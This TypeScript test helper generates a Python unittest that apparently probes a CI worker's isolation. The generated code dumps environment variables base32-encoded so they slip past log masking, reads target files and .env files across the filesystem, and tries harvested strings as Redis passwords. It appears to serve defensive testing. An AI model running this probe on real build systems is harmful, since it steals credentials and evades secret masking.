/**
 * A unittest module that hunts, from inside a build on a pyci worker, for what would let it use
 * the worker's Redis or act as the App (test/e2e/scale-out-secrets.e2e.test.ts). It prints:
 *   ENV=<its environment as JSON>, ENV-B32 <the same, base32>    (past the log masking)
 *   LOOT <name> <base32 of what it read>, or DENIED <name> <error>  for each of `targets`
 *   DOTENV-LOOT <path> <base32>                                       every .env in reach
 *   REDIS PING <reply>, REDIS KEYS <reply>                            with no AUTH
 *   REDIS AUTH tried <n> accepted <m>                                 AUTH with every string it found
 * `targets` maps a name to a file (read) or a directory (listed).
 */
export function workerHuntProbe(targets: Record<string, string>, redisPort: number): string {
  return `import base64, json, os, re, socket, unittest

TARGETS = ${JSON.stringify(targets)}
REDIS_PORT = ${redisPort}


def b32(data):
    return base64.b32encode(data).decode()


def redis(commands):
    """Sends RESP commands on one connection; the first line of each reply."""
    replies = []
    with socket.create_connection(("127.0.0.1", REDIS_PORT), timeout=5) as s:
        f = s.makefile("rb")
        for args in commands:
            s.sendall(b"*%d\\r\\n" % len(args) + b"".join(b"$%d\\r\\n%s\\r\\n" % (len(a), a) for a in args))
            replies.append(f.readline().decode(errors="replace").strip())
    return replies


def dotenvs():
    """.env files in every directory from the checkout up to /, in the dirs of TARGETS, in /root and /tmp."""
    places = []
    here = os.getcwd()
    while True:
        places.append(here)
        if here == "/":
            break
        here = os.path.dirname(here)
    places += [p if os.path.isdir(p) else os.path.dirname(p) for p in TARGETS.values()] + ["/root", "/tmp"]
    found = set()
    for top in places:
        for dirpath, dirnames, filenames in os.walk(top):
            if dirpath.count("/") - top.count("/") >= 2:
                dirnames[:] = []
            found.update(os.path.join(dirpath, n) for n in filenames if n == ".env")
            if top != "/tmp" and top != "/root":
                break
    return sorted(found)


class Hunt(unittest.TestCase):
    def test_hunt(self):
        env = json.dumps(dict(os.environ), sort_keys=True)
        print("ENV=" + env, flush=True)
        print("ENV-B32 " + b32(env.encode()), flush=True)
        found = [env.encode()]
        for name, path in TARGETS.items():
            try:
                if os.path.isdir(path):
                    data = "\\n".join(sorted(os.listdir(path))).encode()
                else:
                    with open(path, "rb") as f:
                        data = f.read(65536)
            except OSError as e:
                print("DENIED", name, type(e).__name__, flush=True)
                continue
            found.append(data)
            print("LOOT", name, b32(data), flush=True)
        for path in dotenvs():
            try:
                with open(path, "rb") as f:
                    data = f.read(65536)
            except OSError:
                continue
            found.append(data)
            print("DOTENV-LOOT", path, b32(data), flush=True)

        print("REDIS PING", redis([[b"PING"]])[0], flush=True)
        print("REDIS KEYS", redis([[b"KEYS", b"*"]])[0], flush=True)
        words = set()
        for data in found:
            words.update(re.findall(rb"[A-Za-z0-9_.~+/=-]{8,}", data))
            words.update(m.group(1) for m in re.finditer(rb"redis://[^:@/]*:([^@/]+)@", data))
        words = sorted(words)[:2000]
        replies = redis([[b"AUTH", w] for w in words]) if words else []
        accepted = sum(1 for r in replies if r == "+OK")
        print("REDIS AUTH tried %d accepted %d" % (len(words), accepted), flush=True)
`;
}
